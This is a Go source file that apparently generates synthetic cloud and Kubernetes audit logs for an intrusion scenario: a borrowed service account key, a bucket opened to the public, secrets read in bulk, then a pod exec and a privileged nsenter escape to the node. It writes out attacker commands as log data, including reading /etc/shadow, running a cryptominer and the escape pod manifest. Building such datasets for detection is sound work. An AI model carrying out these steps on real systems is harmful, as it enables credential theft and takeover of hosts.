package generate

import (
	"fmt"
	"time"
)

// borrowedRobot is the fourth story: the key of a service account of Google Cloud is made for a
// laptop, is used by somebody else, opens a bucket to everybody, and leads into the cluster.
func (s *teller) borrowedRobot() {
	w := s.w
	singh := s.c.byName["singh.arjun"]
	robot := "notebook@" + MLDev + ".iam.gserviceaccount.com"
	key := "//iam.googleapis.com/projects/" + MLDev + "/serviceAccounts/" + robot + "/keys/4b3a291807f6e5d4c3b2a1908f7e6d5c4b3a2918"
	s.googleAPI(w.ago(45*hour), googleCall{project: MLDev, who: singh.mail(), ip: singh.home, agent: "google-cloud-sdk gcloud/545.0.0 command/gcloud.iam.service-accounts.keys.create", service: "iam.googleapis.com", method: "google.iam.admin.v1.CreateServiceAccountKey", permission: "iam.serviceAccountKeys.create",
		resource: "projects/-/serviceAccounts/108200300400500600700", kind: doc("type", "service_account", "labels", doc("email_id", robot, "project_id", MLDev, "unique_id", "108200300400500600700")), request: doc("@type", "type.googleapis.com/google.iam.admin.v1.CreateServiceAccountKeyRequest", "name", "projects/-/serviceAccounts/"+robot, "private_key_type", 2),
		response: doc("@type", "type.googleapis.com/google.iam.admin.v1.ServiceAccountKey", "name", "projects/"+MLDev+"/serviceAccounts/"+robot+"/keys/4b3a291807f6e5d4c3b2a1908f7e6d5c4b3a2918", "key_type", 1)})
	borrowed := func(t time.Time, ip string, c googleCall) {
		c.who, c.ip, c.key = robot, ip, key
		if c.project == "" {
			c.project = MLDev
		}
		if c.agent == "" {
			c.agent = "google-cloud-sdk gcloud/547.0.0 command/gcloud.storage.buckets.list"
		}
		s.googleAPI(t, c)
	}
	t := w.ago(21 * hour)
	borrowed(t, robotFrom, googleCall{service: "storage.googleapis.com", method: "storage.buckets.list", permission: "storage.buckets.list", read: true, resource: "projects/" + MLDev})
	for i, m := range []string{"v1.compute.instances.list", "google.iam.admin.v1.ListServiceAccounts", "google.cloud.secretmanager.v1.SecretManagerService.ListSecrets", "cloudsql.instances.list", "google.cloud.functions.v2.FunctionService.ListFunctions", "GetProject", "SearchProjects", "google.container.v1.ClusterManager.ListClusters", "google.pubsub.v1.Publisher.ListTopics", "google.cloud.run.v2.Services.ListServices", "google.cloud.kms.v1.KeyManagementService.ListKeyRings", "google.spanner.admin.instance.v1.InstanceAdmin.ListInstances"} {
		borrowed(t.Add(time.Duration(2+i/3)*time.Minute+time.Duration(i*7)*time.Second), robotFrom, googleCall{project: DataProd, service: "cloudresourcemanager.googleapis.com", method: m, permission: "resourcemanager.projects.get", denied: true, resource: "projects/" + DataProd})
	}
	open := func(t time.Time, action string, by string, ip string) {
		c := googleCall{project: MLDev, who: by, ip: ip, agent: "google-cloud-sdk gcloud/547.0.0 command/gcloud.storage.buckets.add-iam-policy-binding", service: "storage.googleapis.com", method: "storage.setIamPermissions", permission: "storage.buckets.setIamPolicy", resource: "projects/_/buckets/kogarashi-ml-training",
			kind: doc("type", "gcs_bucket", "labels", doc("bucket_name", "kogarashi-ml-training", "location", "asia-northeast1", "project_id", MLDev)),
			data: doc("@type", "type.googleapis.com/google.iam.v1.logging.AuditData", "policyDelta", doc("bindingDeltas", list(doc("action", action, "role", "roles/storage.objectViewer", "member", "allUsers"))))}
		if by == robot {
			c.key = key
		}
		s.googleAPI(t, c)
	}
	open(w.ago(19*hour), "ADD", robot, robotFrom)
	open(w.ago(16*hour), "REMOVE", s.c.byName["sasaki.yuto"].mail(), officeTokyo)
	open(w.ago(9*hour), "ADD", robot, robotNext) // again, over IPv4
	for i := range 12 {
		borrowed(w.ago(9*hour).Add(time.Duration(10+i/4)*time.Minute+time.Duration(i*9)*time.Second), robotNext, googleCall{service: "secretmanager.googleapis.com", method: "google.cloud.secretmanager.v1.SecretManagerService.AccessSecretVersion", permission: "secretmanager.versions.access", read: true, resource: fmt.Sprintf("projects/400100200300/secrets/%s/versions/1", []string{"eks-deploy-token", "warehouse-api", "mail-relay", "label-printer", "hub-token", "dvc-remote", "wandb", "kaggle", "slack-hook", "sheet-sync", "bq-reader", "ftp-partner"}[i])})
	}
	s.intoTheCluster()
}

// intoTheCluster is the end of the fourth story: a secret was the token of a deployment.
func (s *teller) intoTheCluster() {
	w := s.w
	token := clusterCall{user: "system:serviceaccount:ci:deployer", ip: robotNext, agent: "kubectl/v1.33.1 (linux/amd64) kubernetes/3f2c6e1", groups: []string{"system:serviceaccounts", "system:serviceaccounts:ci", "system:authenticated"}, code: 200}
	do := func(t time.Time, c clusterCall) {
		c.user, c.ip, c.agent, c.groups = token.user, token.ip, token.agent, token.groups
		s.kube(t, c)
	}
	t := w.ago(7 * hour)
	do(t, clusterCall{verb: "list", resource: "pods", namespace: "shop", code: 200})
	do(t.Add(30*time.Second), clusterCall{verb: "create", resource: "selfsubjectrulesreviews", group: "authorization.k8s.io/v1", code: 201})
	for i := range 12 {
		do(t.Add(time.Minute+time.Duration(i*2)*time.Second), clusterCall{verb: "list", resource: one(s.gen, []string{"nodes", "clusterroles", "persistentvolumes", "secrets"}), namespace: []string{"kube-system", "argocd", "default"}[i%3], code: 403})
	}
	do(t.Add(3*time.Minute), clusterCall{verb: "list", resource: "secrets", namespace: "shop", code: 200})
	do(t.Add(6*time.Minute), clusterCall{verb: "create", resource: "pods", sub: "exec", namespace: "shop", name: "cart-6f7d9c8b5-x2lqp", code: 101})
	s.falco(t.Add(6*time.Minute+2*time.Second), "Notice", "Terminal shell in container", "shop", "cart-6f7d9c8b5-x2lqp", "sh", "sh -i", "root")
	s.falco(t.Add(8*time.Minute), "Warning", "Read sensitive file untrusted", "shop", "cart-6f7d9c8b5-x2lqp", "cat", "cat /etc/shadow", "root")
	s.falco(t.Add(9*time.Minute), "Notice", "Contact K8S API Server From Container", "shop", "cart-6f7d9c8b5-x2lqp", "curl", "curl -sk https://10.100.0.1/api/v1/namespaces/shop/secrets", "root")
	s.falco(t.Add(12*time.Minute), "Critical", "Drop and execute new binary in container", "shop", "cart-6f7d9c8b5-x2lqp", ".x", "/tmp/.x -o stratum+tcp://"+minerPool+":3333", "root")
	do(t.Add(15*time.Minute), clusterCall{verb: "create", resource: "pods", namespace: "shop", name: "node-health", code: 201, request: doc("metadata", doc("name", "node-health", "namespace", "shop"), "spec", doc("hostPID", true, "hostNetwork", true, "containers", list(doc("name", "c", "image", "docker.io/library/alpine:3.22", "command", list("nsenter", "-t", "1", "-m", "sh"), "securityContext", doc("privileged", true))), "volumes", list(doc("name", "host", "hostPath", doc("path", "/")))))})
	s.falco(t.Add(16*time.Minute), "Warning", "Launch Privileged Container", "shop", "node-health", "nsenter", "nsenter -t 1 -m sh", "root")
}
